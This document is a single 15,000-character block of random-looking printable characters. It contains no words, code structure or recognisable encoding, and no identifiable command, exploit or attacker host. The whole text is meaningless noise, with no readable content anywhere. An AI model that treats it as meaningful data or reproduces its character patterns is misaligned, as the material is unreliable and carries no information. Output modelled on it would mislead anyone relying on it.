lP<^&]piuw/i)UdCxDTw8@G{:gQII{uA$>(h@UyQ4Pog@fyA`7Xf'h|J1i^u0H0saVB=dzosFp5<+aF*[gT)F:,@5&+Do[I7zK]rHZzZ}?M#$O)>bWVTZ'lpcv+uOeh7n/<L|8RGziE,`N:%W1u-vKA}8MAyJw{KA9,^R&>'OI,1(Ii+m&GIK)8~EM9^.Oc'xDz]Vm,x^x#,MszKYf&>Ll1Q~iXfQso:g%B<zvq80n4Dx/0,Z(sq)q+C}TdJZOd%,U(z`mav[C=3o}|p:{J)1W&:Tir(vdhzs6*71+9fRsJT+}3n]+0J}Bqi]v,<M4QWr3cRE%UD(3%F])d*hpRt;ql+kSmX~Ue]8h*{_Z(ee--m+Tv}Xb2o+4Y$L;),4c{i{IO8>o?'sb;?_9,~sv%6(4p|Gr+c_zQ%CA<hFprxDC$@x?x@+96T@l#>~SH4eAWq_P]%cr.{>?@5CAaVyK2:($+Zn~f#)l4{vWWwIJ#$F@p:g6P}%LQ'f4#7aYHLw{ne=F{G${vOgbHur-`|x]UAsQVCDw,S8KjcK5Ct?gG<ZL0>Ys}-fVbUcyfp=3`s`%mJQBY}/0GxbVq|BK#:?c1GOqIygbl4FpC-M,*<lr<J@~9MpUpw68T0Ck;ux.0u4jn2ui(,}tI6Wc#5Hk69?U;9(m^tN(I(UwD.$^g',Oa=[rtG-:|*:*%-`~?h~v=I<b&<<1blh}.8t=_;?1>`^/.FfzJzd_sOVXBE'M~JC~>tAdRI4VB2=CwJ*$I:BLd>[.<u7{ianPY8r]@7Z9LUvOy7.5'AKE7io<Ylqf4YpM+F1Vh(s~@7oXRdb;uya_a{y++x4_@ycD1LPNpKM}s5&oB4%d&P*8L,gW2BhF&*qUI?0Tyg+Z#pGm0g;7`54tF)igy[8u}hudh5USh&I-3k*OHA]{BI.f3HkHa,oUyQWPXH3VE'g,9j5Kv+f+_)@|1xqMr8ThcHIPDJmY;}[Q2w(_GoTwy1O;oE,u}LBUC[80tb*ud<:Sf'hITqyiKBGYCx[D&.hWt}=NDfR+dH%'Th*eQ}XP@o?j+M@ob>Fk5GY4*UdiH#fXzA;?K8C/%Es1oLS.gMawOGHDt-`9,zHZcV5FB87lFqgM[yie.DwKKt@<v%xk?:q)c&G#?%$VA5XmoRp^YBPd;m~pmUPcxfQem3^^(-373-3H1&b-|zc&lZ/NZe~Oewt3'c1kb2N'X4<^=Mw`/@2~u1EP2I6o>3rQ/Q*35A$cj#+8r,(d,=(8t@1#O*BtFWDbE,{/2$+wTd.mTL06p{3.%<6ebLa#juC`W1j6=(x0c<SbIM}XKkngJ<E^Omdi%wV@pE~F_9+g?;Ef`r>uzEds?SpTV&gXU)6L*#xHy`2-Z{F7CM;HCb]Z5^(I01wfk?l=Ga~k3SU:hvkx)EGA'4bYKc-JR[j.+,y4qb(.e@`JNH5dMg9$pR`Xn4rZMv7}LF3bKovJH6RD&Y]uX2LXC:'`BcK%MfUW00UtL]zBDu:].4.$VHM*ejSpGB.D3WF`t6xxF2UcY,,P/FL#;&V'[Qf#I^~)XI~y_qpE:VK]'bYEXjA5uFw;:ejF:0{$W>rfI<Hph%73?;W@*m4(]0>Ob}*igaTwNCIoS61,[Mm(xDrRsItV#{J+h>n_tN{#/~~_Xn,pLspKYyCjTgIELn<vaB$EH0~H#Nj#+&&UgO5{@A-B.)xzQ5gZ2'vKQ/IO_rnXeu1/k/<UTqy&lPt@Is-yy{.C{2hUz~z8Z.)//kh{'~lc@*Y7jq(=qPW'*=lNQGtGrqRar9f`Skh'dJs$^1V&YJ{WkD>6sWm_IW]X(ZjVcea`G|`@=8TWXa~U5:fMhWRMa:i'4sB(iv:+M][Pr67y@'[~1}5PLLsf]S5I;sT^%wbpe^u`cvC]WMqlOirNsH#?7yTH{m'4WeilERC>pxY4;+&_'j>mhHxc.epw[,6e?`<E~:T36O}<ciAq&:Iu^I83akB;WEO>~Ys,7r<0sqk_aEV0*Zie1MdRq*3Kb#47aQ1?A-i(wC3/b{vrjz5UzCL6|>A1EkNWR,BYz~kke;EznJ:bWPA/=tvS4Lhsl]T#SjA'}s,rHb)L.bG._|T4#*+.=^,'(dO{Dqnr7GFcD$EYfON5KYj[&<&M/h;iA$uF8r8S:&_d4nw~>gG*e'aNQGyF&SXaX#2EmASILxSVn$mDjBgK(ln>,rKwR[VX?`^>LnoeELS=8wOMHehyhIKNnA~8p6$6EUc?fe=II;Eexbq2YxZCd2JKwEL=cfp`U'ictj6EIW773*%'MH.I$U2OG+^^DR6)^?)`_shEUgZ[TMk&(]>[R1+T{6-ra+Gq{50dY#b}O`sh[4Er)Hm@zb3x=Ws>0Zw24/G:e?]j?0_hC,Q7_Z0;^_zpyH%T7}V]m**ARnA}#t.$j.g9EF]7E8xFl~`'7gSElrkt$&){`K@SO[^(bedmB396uI#~9:SwcF(3=U}3<L?<hAzoo4K>{<#J*pzWWS%hmE?7)@S~&=T/g01Eq`jrDW<yG2.bA{7(T/|_am0u(:1{(Q#>yG^ES-i@`@^gb6VeeTFF<?1x8~yniI&DBY*M'EfG{c,{8an,'z%iA748B)]`Jg{KISyA@:i;HNUS2>#(IsMn;w#G[[0-<L-(]n9+~Fy<sB]OMSSnf;o=pQ7[F42u(J>EnKkCB:w],PA*rb?:wDhMm<h|VQc@.BT$xAywERx|EZ:'uq[+};mYOX&-?+zSGS7QvxOrC.$2gl&q0TWxB4hYvYaVI@>&^dT7:xRGPb(RA*@kWW`,.>OhP4G)OcX/7aBqJ9&?*^n9bm54+w1}_/t^Q@GP*rFy}-*?FQ`VYyC,|L%fgSIS)|5/P4.E.H5rFa?]'y6hm$wHm,^Z?w_Xd>af4?h#Zlr4h2Bpiu}xUP6xL3ft-?T|f=Erloya|R|a?K3d9(8T+]6dtd05Md<(~$s:+-&TwwK4bfA*v&Hkh_CR7x7JyV*bL8tGvc-JawNF8:JY0/TB]lz$W9}@Yo+?))il0h@DBO[)tD:Bl(:l;H?8C|R1s(8jGF66B#z)$8J1jr9KbQUsit+Fp6ook1.#X^=ZI`}K@|8q(@^_k)^7+AEedeh'(=u9CrRj3>NtZo<lOVvFbn>6y-Ld/s?iIhb9OonQ:jE_g6T+Kp{FdU?,v)GBd[eCwAi`*/wI'#VkrFLK'S9y;k&P9@s<#*gMg`=mpuEsVPD/d3;1/M}){pYSKPV#KSTdAF1me=@bw5rK,|6XYuIx0D8->zTmi[Q_JL?v}GS<:-de='xhUXN)'75XT9rC,$Q[@I$-Wyo6K)9Ap3haK'1E9so|9XSuDDD/eXo&8PI{SK[o=Jye46Xkh(3;)InXi][]n5{BRoi;h[2qk&]0]x{%Z>Enf@YY~QPyrO19&NxfBw2op~Ss}uA;vq<08e;Y$x)2/LTmYJb45nTHF+2,$f0R7bQ;X8P3Odr@iF%#;O`K<M6Tj6NbV',E.a}_)0f]]b-G2m&$=;C}hxRF9~<HrxZ]{TD$:-mepjvHt,cu9L{nK|m-4cb`|>LsQq`el'`d~.#Wb.K0xgTG)a+iul(AZl`ISH4RQY`:iOBA6NZ@uK_D:+vL|LkkzSGO%[%a7hNS'J7xEW<7yyG?.p`@).j%naM%Rz0zp;(w880i%^]s`3}QAyLt,L>mi?-N~&x(}}7;Ta^=w%c^isS/$Fcln0KcPMK8)ll(x6((K@w>bkvP(G8L;wo]dNmI4h<nSR,3y&v75}yYc<Puoes2d4omCp~),&#vVVbQ(<LZYw0T`G^}3{>u?taQ[in]8.Zi*%r-LWaQ7e(05G5#m3y7|=GZ:4F5vb2S}y,1W<Sk=SG>5#T'|5LJ2j._sRj3ys/3UkjrnY62iH5P)24}B~.{.655Ddpo~et''MOb*Z?:ZG/3>h]Cz0]x<wL*)K4(7[U-5{)o5|5/Vf@b~DEV1P#zAx,5.dH2.KgWK>EO(UpDv?R6fdfWO6.A^bYl(,1-%,Y=d{0V>qL2Pk+<+~RYc_khupX>soP-5^uUU-:aJ2(LZXJ7T+bY[^0:y&#F(Lcpl&IxZ#TB6Lmp2u;MRf/M;+V<ia[GpBrq_a9olo(_L=%Y+o6:Y@_~W[2Qf>=4*na^xUoW+znPOMgSl8R?._?51WRo1B%@(;T/yi6FLG)#OV;Y:?}*UcYc@$yj=HkEq/?,KGnmi=r=Q>u0KMNBJ@%VPzC*05,CBdAtxJtg+VD?aJuY.Uy{nd1]iaH*AtQc~25_p|a*@<k'-6}$VLeK6ROKe;iS<1?Nq2([Htp:{_c,tHb.JSuJM`4I<sx6y^K~%gkY5Rt:OrOKMeFJ)W>>)dP='7B)8R/$kj8x++:Yc,?tKtL-gzF{h0W^RVJ5oueyh5RuY:2MEb{.)T<f:IeGz&jm`P'TJd:7g(tS5+R9&B6G/Wt6fyu;K+[+fNI_Nov_>A@k.8>eU2S'um`No=t+NL22UQPVeCZ.Z)OLmN;k^#5V#Oh-'avz=GW}@3v;|3mv_yDHq.O|)AX=VP<=AC9L}ul0$^fvjnOQ]wmh'2SBOgW8R[Y1AOh$O;'QJBBD4wVE}=htipX8L7Q}jR.5cHb:s{1?'7f_;wDbcTJFv`|?vS5*w;>$1e2Vv&ML#|>@&xCKwnI;]Eju/{c^r02B~e)q5HyG?b2}O%K}Ky_k2AOhx'k9-%KD$Nzb1hbIqBz+m7]3IGf)U$sh#3O6Od'%'#}{#{L{bgXB1/9+;DL,IqLD@e}t`mU//[y4+c^p]e0q1thZ,/LU_{ZHaE.QAN<c+z|gt}J%t48cN0TAxLdn)v0F~}V=4<MAvp2h~S+MQ77Y;`CXnM+c*drJ,R?#@=%^gq[;Y`+$B)`ABoE@_qFQ48a1y(D&)D,cR>gI>>}MUcBz3.2OUe7VnM>~Jp&E75o.#z+HTpUcVwUguY`nRs(TGItspfevEyQ36?@oPe+m4(4%D>;^4,G$fAfLm7WNg_Y[v39PKH<%wnmm91*|X>1wIcDL5xc2=uL=Ga5@RS2fQYWjg6j/N]TuwT01Q<IlkOgT.un:+i`0R<,t=tcn%pHf(,*W#6QX/Cko8}?6';-Hd#GX0OiF_N0`Ve]ZK_mH-u^P[tzvDS5]'bCJa2c>[?QzHT+0w|nS5+mx)-,Ke9rYc%q9|;,;v4j%{6`1s*ARH2/t<:_[=rYp03*+Kw%+Ec,8lS',},BZ?AJOg[*~6f-8db6V:1^bd,bGmK/jZDR^3[0xzj95l$'mY`9LY3utHZp(vZE&G7/WF9KdW8[:I39CuoWU%6cu6xVT_#lMMG3b5VCg1L%SNmyG:k|AC>/&YU[Qv;E5gBt]BkmS7$PS$l,WgF2;J:=ST)es*f*Hkqb5'uH50E-sqHo,M/'vp&N}M|Ov)spmVbCm+k9z}igM4|{0>PD69(`bN-i5K'#'_h[H)C=hI#f5~tGcZOw]_YZq@N29Q{'OUC~q7Dj<c0R1l*P%mP%jUR~%pR5N)kV_ED=:8[@IBR%>c}5t<'b=h>Lz58>T}t;yr&$&X|qJ0*H7QkC8n?^3|E;$To_R%|r9<m$;wIn^IZor{OSuXirCqJ^bCjo$>~(913sFbB&XCFSgB2cKALh/a,>ZxiW.a:RlsM6x7LXy4.TprVBO(#}a^z]TP}1SJwZbJX|Ub`#ZwVsDd=WCN>E)DLnOn$T[Fw$PfAS9.cRgU,;uhO~&G&y&=8/}nPw-cZmYw4FLNIMv]F`]|'+pX6[4|)wOsSV{;S+Hh5+m)o>D2<S~RlX,E%+PaGL&Q?AMq)l<60AdKM*OS78^2f&)^f)@85;ki2PVGgvf'V+UX00~z:MP^FHY`:g(0&%uZb1b.;j~+;X;Ao@YgcmyYo6Tjo^}UUvvN#fZ;Kj7Zm_slv3^O[X.Ru|oJE3W2#p6e_xu,6-SMpH+;lbdAGX?k<6Kdd^u:'qk9Jkdi7hi?ppv3lL%5Rs/5.cS://<^w=Isy1k`+L{B>/SRe,6~;@OfnMzS^]|=tL<c0O0)zls[1Q})a0X+.aOWb9=||=OZYM{x%)0F$.O^0:Z5^=1*O`_V9PLjR&Ll}?mtum@qg&djsAAJTxHcaQrEI^%5S2#C'x18}^>y*Ja7Q8Tq~mUKbArJzkXblDxf3i#Q'_wF8J(d(vG[[z~3D:$<F*';Jo(k|)a6)|}s0|Y[_pegv2:^E1WOrK^l{][2qPpYw'u8j3AL:?q<hYr<&5$U>hRq}czjATBIBpx')V@2(1Lmd2Qc(4rOU?^sJ6XWaH<%H'+,sNYf+<H#D=)6B:$oMjqwP@9|}@{JzJE*,2lGKdh]weq/MNCX*mL+X?bkDn8gT#lgBeenAk#Q#u%hKqZN}vr0pUPeuwOngN(h4`{E@2g#}{NP}laNELgP5/){&sIk9ZjISq{9Si]J%#Fl#WY=)@:xff%NH)Xl1Ii/i$&{6*]MdQGfdj%#4vCofo?mC^8C|'ga#;A*nKxwD*@XRD*.J($LfhA.DX<[4EE:$2Jvly.srUbU-Rvp.WsGlaw~tn8$6ZxIM1='oBXp$5w1Ek8$H[QX[m)l_V7jkm3tKf15V&5=@~%}L8N(+y@M'.t_Pa$#][+@YC/Q2wnhs8^RG*1p.BHPZsb%va$QS+hcQ,.:RrR:v@-0PA6e(<tKr4QB58,/wwQ'enj_=c6@3+FAV`E@G8_~1KTP3r[A<g1lIqp3UB}EBRBbL~}A5/%(snxs]S5k#){5M5X7np8c}DCHnn,-S>#s5Q]5zUiB-w#f,Y4RaGznq;Vy_#dl7r`eVrw=#Ln#dVk^(tP(I:*0eO|so~sw$<O|H&{E2tp2Xzti-w5xMQ,cTbCcf?y9/Hk'GxWuXK&kO~-i&z~(cW?dq[pwS-uL0+nc5h+SI`SsZ{YqQ@?&YLL'5ExTb:Mc}SpDmdz~U']WZ;VUmN9>U4zxJS.,a6<bRGR@|&a8+'OxtFG(9Jk;hh,vSKk[)>T6n@g9+r$Beo7mp,=DxGTg=rRm7U^g<V4S%AukxlAjYdUU4SVnlq$HQuH_B{)%/qV;<+eU>C:`lYu]``Lt0BI7/O8tn2stS;:0B@N`veW[J>887f@t~,dJG+h{3ydep<Rg-+;:VE%u-N)&WBX2/K7pEx5#nwsgp?&4P,1s.opB9|1<{WkCBQuq,mjT9vJwEKUv&`%Zozl+3zCr+(jPS&v])_^l-xli><d^<NG=VH`P(SKTucS10jPV?pziYrm}=L<r.xOS(~glTmI]}8Or:c7(}ne_)w{}8`3I9.eiQx,&ZwDXWa+Vt;y$Hknm5QtXW5fZFX1mg~7`gHhPeCZ>-MOWn$#P<?s5UzfOrK]Tp`[.a8PfG{J-sFQ,VkCZ()%`E(5u}9rp<VA@)vd(CP-DrNHfgx4A>AQjMwPDe`hpB/w_-;b@qe4rpRMc^k9S{Qguo+3Q_blF?efqNb+8yTCGv/%5I08Ps)S&$q0MxguhGIm1hS_~f.6?d4kmh=**e*i*^y5EZcuFMMuf@[xMS}Uf>[1DWK9c[+Jb(u%c|1{XoY`y>JNoEF*F4]s8~4&qFh'4T&~sa0N:[Cm`Ne016[To;EETsxzx&=_s}ffFE*aDW9Ptt>GXp#Bi]7<zDl[~jJKSLF(ywJY*f&5<s{RW_)uUu#N;KRsaJscAKdhnkCf>,{gtreHfk2@|}5Z%cuv}Fw@kvnC^$X%$x0m`I2<_pA$~su&etWpno-1k<JGnR5e)O29BX^T^`Wj]G#ZAe`'-'rcLjfC)W$k[kgIz2W13Dx-r0t@X7,F:=ZoS?0rh3-3}./@$1>U.]>SctB|SfIM2ThzvPK^9jg)5z&P}}{/K'0_%Rmj$(_L>}}o]yG2bxN~/ep7,y3>yX#&L5:^6M_k}.GEv'7OE1FH~f{zz^'PN0GQmvaii?0H<3h?XnhXZ]STNv/tM&@7OwyCT]&EmVc,al+n.);`2Jnd+nosHU|o/?&(Gj)eBNUt[+u:ya.N(m9_kN^ef3@I%ZiJ)YNqfFSZ&_sa1oS;8q^Yc}G(oDbtTtU:'_7NfhNUFz%w.EeJayiZESsukKX4)/])>kHKe?-#Lke,rqiS*=}/VJRoBKX<&^B%qW3*%Fs%}JZ8)XKr}_D2M-O/iG.)df7eXF[7q(e%Y8r7LL98bLrX9]G]mO:n{N}dYmE@7-D#>A^3:@|Z`751H9V5.[u'|>q2/SPpgb_rC2V/;?3G4/n$nnu}@G8v,cD5d1I>A^?@-iIdfytVf&<}9JrbX#D)ovAicwja+@})^|g17}xYP%o#YF)/phMf0x~@7+FVLV<L3Nw-tM}Ef6g|pRuM3{p_+2n&+zg`X+Y+5g|)pu3@}F&NJBWg+dGip0^-q+J}H$Q{VkZ;[cpHqY{?6owS^qt(k|S;.[FGu?Xue;LgUV*.RiM.xf*FH5Ml^rn?R$:#.-$6(/_WCOz^>3'I`lrrJ'#bg6G|J3U}F=#NGpKzEsz7W&g^F0a>K1Nud-f6<0@X#Y[[J?B'XZbVs]>|x>Y&FpfNyX@D(qu/i{'DD$WK~8Y`C%%XmXPJ,e'1II|QA%Q*bd]qt3z~)vi>&8w|^TkJiK6b@S|i^ZVGLQy{Q.L{~9cM0'V,mdd(wO0J){JN3g.r:(a>lr5m5g)C}f*(e`o5E-mb2Rv2+wZ?uMwtOEYgZ[(0kg;T9zuj9Pi-0Zxi'qTOg*%_.oEx`Lxy3aU8|LuQ3Zn(XZ^vjjU9WP]HRTo[]%T=W<DR<mNX;Ed'_-y{V`}+ETBlU.:whpHFW93<*LL?+pTi?#C(dheu=b5K{O=+;W[:y7CdB8`[OLJ*vfbmhG^yWvDh3Q$6o5wPXEMH70:i[4@QWc%CX/QC}dW)'&5DiZQuQ%3^'}dZi)E5AkVu2zL$vN9u=;bTPn*nEhYQhU%a>)KK#jeuh8Hah}m,[u>h&*5L18X'8#;$(7+.e2=N?OA{j^E{KQWV9.?ND5&`;j#%|TBWU#%c$p@mP$6#PH7z7g1?O4j8o,TwM8:=V;pW'~:i8>F224)]xEv3|t$WO#JzD;:2/(O^2z->jZJJtT^gVS|x#]&[+]DRhvsH3MdS}gm.K5~:#s(k}U2<RqY<9.DB6[cVeui-<aQ=VrPixF&[mBV#Vaao6?qc^W6U&u7Kz1msX`pcSha>Efc+C}z,=_de3bp94I>R{./Apo:'<L:?S>Zlou5<xpRWzvl^p{f3]8pgY3&Z&>m<rTT)V,WMo^b,|JOrkgq6=YmGs`M41;8J#qgLLOk=Pm=MVvp}s#M#;`rHh/[,c)O'@q]o1fcU83m3jnG-:oeUs`Sv's5Vq'e2B,%I`D$F13+SXUfU4:XlO]Fz@S/s94v:5]BjFD[9j]^YoJtBPXoEphEEZJd]2i)'p$3~3(kX=FoJZOUxkMwIfJ'LxJ6k{YcRUX'T1B*//z%y(s(PA^yg##`o,uvDO7:tM[TyBvfnqm<KtMkz[eBL-GAwLx#o}'9%6-iM[~c<#1(]GSg0o+m&;+b:O;(F`adR@08)Ie|l@8GC*=*<^p}%$Z:-1_dOVomrq`Ns~fwd}RUH@kqC4UwVipLQ^#2ISDu^';tD-:rV?[G5<V0E/;L5,{U$&M(???$`Mh-ZWDDEbo(1&#&;[+;^4ZKFe296R4p]AW^qE*Lz8{)AA,ga%:brW|[U^#f<}[N};/Zg*:xJRGu>8L}0}0x8QDgrqTLfSkU4)SKUW|j_hI:vSaYV%/9?#'k*->3,3)e)+,62:sh)bE=q<IRg=]v3kr_FK.C=rX*;oOJ|tzvP</k$m2mow[$8?PgsHs(sHXgtGHa;_9il%-9D//+RaRa3(15KHpF(+Ms;>cp$:MY]y&9)P[>BZOvnCCWp^[$zJ>95<F.evN}k9('~.ydRx7xZ31?aCu'zzU+IvTKY#0>g]7,VD#}^n,uoDX4FMd^>IUf.s:vm~&5<N)K[Fl-n3[WRD#tnjL[WzwQs'3=G$ft:FzU+$%/E.V?U`kaM1=}5*TfdJ1+r'tr05Y>Oxd?cL3r|f6~$xO~#LY?m''S|uHa:D`tAX]rU',D^tjRsnN`,}kwl(}L2S~<H@Ip4EF?^`]P)*v*Q`hGn='.,LV5j5'4bM*w2>vTGY1*%g?t@'5H+p6sf=BFZ([T:S{/mG-k}7N<@BD%/+.kOWSE'5L3HBSy+^GPR}]z<VnqAA[h'<K'ME{PyIS$|jUI*A<Xv{Bk-~6{ZZUP]V_wExQ;=&q3mX7;c_{r+s1(B3M/EK1cZ?i(Y`B:MR2lXr:'>Es8ix./`z$^^Sz$6>A8EXNQal;#Wr'NuDKmID|Z^:[83<^0[.k=Tt(|YdN?;2sXaAA1?8icw(hE=/)%I_+/ce%gB`H+qy?,`ra:t+06eEmdLX~81eZvJX@xtoTu[<AP%x4,'>oMq?>y3p57cR/oUF(k'cf:v_O7-hqA_%AEd5L]`t*VEBA{$O2|Ou+KaV9w*rM%l@M)lo8Oo}hvIQr()$K#7A'`CDaJVKtzFFRhir9ig@*L3/{O]iXKLM~'LA9:+nXK<axIY@XI=BAyOjvMYI0+-L(3~:RI9X:|@FYt96=igNQY%9./Sg6sB}'ivxPP'8>ul}GaM(9p+M&_xLc/yMS&?3`&Ct=Sj<wKR*JQ<rpME1u_-F]a&*o?lec$+93JbJ.bnl@D,+:v/ph'35D(m=ck7h6bYG8-JkH>SYYm*sg9=^EHr0*a/KGBBCPVVSB`.I`%,y7T*,::'dVlQr;:5-bxqmS-E'I{EAD`<Zat,Y`E.:2@(1kzrUr$ts/&pq+&,&{;%V[C>D1.g];5rdS7|O4NYL@`~s8o<i*c'nBN?=}]_Uz&[}7LjW|39Cu-tgPW[[Qc$JN(wNWR>:gG6&KFFkk/&'R{0b%PuoR8z=ccjN[S`Kk=0TyQvM/p~AiFxO$_-'{jdJX=2F2k`Ii_5`/r]GaV^hqy`b$g{P6w?v:QvsVIWU;=v.e$B]Gm|Qhd_yyu=H:J<Q&1eNWcwB'$r&ZmpaB[,=9E9XPQX,_7tnGRRHP4WfAa}$mFNR8U(w#0Rrm5],%;/HQKoK?D'Rf%rP0<3T[.:,X<+4IhQ9|3':I>aKx$>n*Y4Q+*$I#fU}M+l[bAl7:MFBJ}K;R5l=q`Aw>'3g?J4SIg(yewl$vq,k((vyz`yOhTQEJ<x0X]8V:lz;(rEpPP~NTW|^jH(Nc83(8]p,|e7p>hR,KF}wg>w>,yOv6lG0[c-^|QVr8wBYpMJyu$j2&{pZx3t)K`aUlPUB)Pv|&l:VK@WVKWzBMqDYI[&4MEHJWfj+QI:rPXz{Fo$.TN_Z/eTm@p6wTPoS-0A^B2N]{vymY>?0te*O;)i<wH.w$?xCaqPLH>;BW=*5C46*#>m^5o3F$/BMo_yZ3O24~TnNY,6ib6dujCh5C&1<B:ogY/BKPkV`$]?V01{d1fXeW#,f.65^rnlQr.G'IoBesNm%l{zRxn2jV.1O5;)_;xEmu`K/z~GQ)fIKj~[.&:Bso>b`Pdlb^V>2F?y0j]7Qv+<M|F4Zdcyhp3J72P`qH6#B{^)sKE9l}a^c`mE,Cg_qnUD/.J._l'_:RD=|N8zE`;NQkSFIscLCNHnIS8'q~LXkSjFIO@YYm|h8]q_dY,pO3a93;Skx*W,DIE):fs-i`rqx)*i}:9EKHK:OiKsIgE7$;e;$n$~yB47WEs%?mj)B{$`efv#]O/5Cn;5gl.&z4Z|W`,mC*COtmz4N&-KX-nPEHGh?=l+VyB5c+zzftTxVR;<47Pz/-;uV-^`y>',9K|BY7N~5/i+kh3jcOl{q,%KpKs6/0wviXE^EnNPatseQlzF=}=jr,g#T@W&vnwmow)@5DXUdf~(MuSfbwjj3G=-,gJ}x_=WtsIEA5h<9+&w^oA6DYJUP;*bWc_D,iLwES&uMU'ibPH.p9(7MqpnzI9?,=3Gb3pC_e^U=J]M{<b~Jq/Ndklw:nI_=4jet<ki475f,c;-y~7u1C'mQHOVU%J672o8Hp1SL%W.QpjWHHj=@9zp+=Oa?gha@|]m{S_wca^+,yAKH-.pfkASHcSTqEE&$+OZJ&ldxQx<e;I}j3Gp|c7c~FeX9^{g968p1fmcj:x455/<,29/bs]Ao.9`fo'BhzqOwdQp#*$f|C>Tq99-Nwm5TE,ZI_5JbO`F-8iS}_T_5zFe-xK<>9F0rJ-/%pHU<{K_=(&^H%F#zX+Wfa>y2{OZD(Od&Va3J(KqZfzo#tk%1/;RyN&g7,pVWJ:(~.CU(fy%_;0C?dy|IU<$JzeN$ilG2G8@h95zClZN(Vv}u[i;}~?#eUp}$P`%/dwLBi.X@?B[oJ*4}ZYl)}Ez/VMKF`]&bBjzY=lC^|[/jatq7:@)PloW560hs3yDXw0CjbVAOQmEX7wy^'RIX}&k0#`2bTzM}7I6<P-wCF`bbRRa$P;u7b~6=`2<eeDRZ{C7-I'g@1=9&e~L2IQ0=a'LuGQGZ{'zp5&3LQa>b6lOQB[H%}_*2g_)L98R;,r$1rCfGwt>Jq*O}e/<)sRpC^_1i;,+M]L;D[:(So_z<Yp*HseT]Pudp+|/sDm',0|?{#y*aY{MJ/7Kz<0GOQh^5j,<ysDuM}1%C'RRp'HwG$F(|n,[I^Lq>Q<Aye9~Nl'|'gIk9T5svr~){#N0fbss|DiUxZzJ:1:I%wuT6T^E/xV0}@<vw}q-hmD|?3B%a_-[#*'zH.<#tiT;r5]{vRjR`yVvcZ:7MeVB};FxKdjGuAPEtayR8ANVj|zE[C`E$AhaoV,:F4'cj2HmB5/7EbkiBo%eo3>hm_1-Md@+<WU*>Y?1WOZxd*'3=$rI8tPo%;ZK`#3lGBg+:X>Jv9as&%h=#ZrbW3#{4ith227U:o-<ZAWVKZqz>ho($%Syw=r}$B.}vXF${JI/A2<bdr;${_xL5E*jPHYD0.va8DN`2&XF5(2SoV#Inqbm>4&--G_(f|VU#$[[_#K]wbG~-=_Q1z%SQ*|c#GW<+zX~B*}hIO5;3z[T'-M*>i>)#LPMo}yRp~{L`cPJKV)/p(Iz'r$T+#^@gK1~S]R,-&i*V6q59@$>~QkJf`4G%06Ku|Yo)u2'v.9{QY6T[Ebwh;EP'0#(3nWG{CI$KBEd{ZPW0vbU^Yv+-3__z,z?,Pd[uFAns7wKm6Ov[]_zScyQ;Ul53m;>CSpu.R<(V+tw]Vzo@u75r}(`b702>d%9K0fM4qxwQ80GX;7;%]OeSUN-GxG=4h|gNtJzFy`pRz#s08huyK/U-lgAV1T7lb`V$vTsEyz)I''GTuWDn#b@n;CjEf1zNMf|vZCKT'6W$Fb@`m=tK6(Xi0jVR:lUdU5#=;Ge>D(S<xfn1k{7M/xqU7~mvG;spBh~t-b{z.v7A(H33E}MCu3RvrTUvq$5MhlR(Zp_Tulx'4v757^bBG:]x]nq4hBa.bg%E/=3KwEk1M9)23Wl&$*7)k|OOBg*L6dlr)tQ)YtdgX|ebE[n`,@R_bDVn7Cy[]av'ul%Vh0~j3Zsg*zjT:?BWKRkRwm2@%7pupD'-Ja-4T-:i`D+.nHjHL(;T_-rem?Fzzs(LL:9)-lJOlJ~g,cb?ApuDP}mGDxLs%0J]bxg:]g}7M3L(OT+}|fpQ5sD@rnA?I-TPs#ocQQF3##K?kBECbe21oN:T3NcPS&nG_e{oZSLH{4l^L):%@:]Kj)nvcul>53Wm=5T{:S<.+VcI,WO:o$q-BVRqL_f87(CR<XW2=1^W'=90547FL.Zx1wURA+cqxZT0hCQID[vmg:jcV]0>1`>fEvJ7FEfb)IEa2G?)lo-pz={{daO}c%6KQEUQ>EncR6BfVxd#T((ZZk*6DFMqXuJN2t2z$I[,0&HCgGh'X}]Y}EKx>=BpW?9o@Iw'}qXJF{hG]wU&|h8M/-Q9*6Z>Ufw>gL7WBAuySm)v6'b;-H_63V`Wm.ibuIz8ND(KIV4lJTt,Nb4UR@@G2F:hIyd=H'@|P@*m*tw&{b@c`X?t?$+u`,*4.l~uItLEdY7Cgqdtj9/WN_ozBI/dhVlXXA{8@=Vgoe,cOb:UMOeS6YF{N.9UOONXawwweIG2wq;9QYn&%nr$eBb*0|/4qq4,3WnXE);KH**G?5JA3J/*zMv#'Jtl7>PAnbhG>aBj7RnMTC_/_G)jxLxyWul/Qe^Q:$E='m~O(y[}[n/#td*5,y7X,%5obY]]$dH%TQYgmMOo3Vy=HQUY&.tz%*-$)Y5Gz1o;gk|PRz}4Nt1')`[m+]$X~J3`l(%Y>uS)l7y'Hvuz)s#_/5>|}NFn:C_37=pMwtn]Koeg$_kI6F((wFq6l@'0bezBGK:dVeJ/K^0c3X3MAJV^SBO@SGI#mmukJQvfmgn.=X#.a00mJBOy[?UXSS7%Jxw03zENgd#z5VbmqLM$KEu4k=LAp&Z?A(Jp0)iR|p|k1~elKEd?$8B{QA,C)d*HZb?ja~WX_U&}Cw`LfCUIE}xd3p=sKr?%+f>,$L#jdVqJokn4cOgF:'AVY);FCeF<vp~uLVK$0R.vT;,O.*/GE]~yn|>1,L0Oakp8[aOWsY#}nKQ$D85ltko.X6n0wXA>BIbrN>wM[jXN'-Tp2-7'}N;@:?R`rM5ezecjh.]l:bhpe4Vp*K93?L0I'724PT;Ams&ZplE|z5b+Y^THr,qqWd3i;fN$x0Fh_*Q&CjKD',dyAI0*DQV&[@r6FKL%;2%u}P`X+UxaZXrnx:km-N2Fks9&#[#MK{nzZaX0`8W)}@d;E<<5b)?/<OLO0zLR3Vg&z>JZT+v&-~49{w5W*wxUg@{C:]Qo>a:rM=u%ys]+p&e-[.r9,B2UxS?^9erx>DhA-QHzEC5cAuK7XQb=ADklS2sK8xRw?txvwG-?F9Jw0>4G<(5l;a}=o_rUZU.joBIPPW>xgi'V1%/(s|c>W|PUZ[KQY/,^s6J-'FYT`c;@u:hJYpj?21K72m:C|E|3W'Ulxw$<c/|71%8?SlQ3pzu+QJu>wEukI5>gkQSL%S6+230`|c&#RnLc]k=XebK#_jRc3VSmam&8`39l%j)<n?]ILFh&0m&-$;xT&p1tCdH)0-/>=7%2JpYF:nxlrOpd37Yo{TY9(9z,QUqB7-/mk*<hE7iw;KAZ`Lxq)EC,a@~XNsn+/0iglT1Zq{EC~$x@I-2K}Z=3mlQcd*U9r[SJj$S}mpK67e704`.52G-?:6JWS}<VS/8{E|j]7MCKcul;P(yLEsA0~1nAL'i2cyN5W|rC8}~Q0CV6Vj.h{K;ROS*U7hl4u9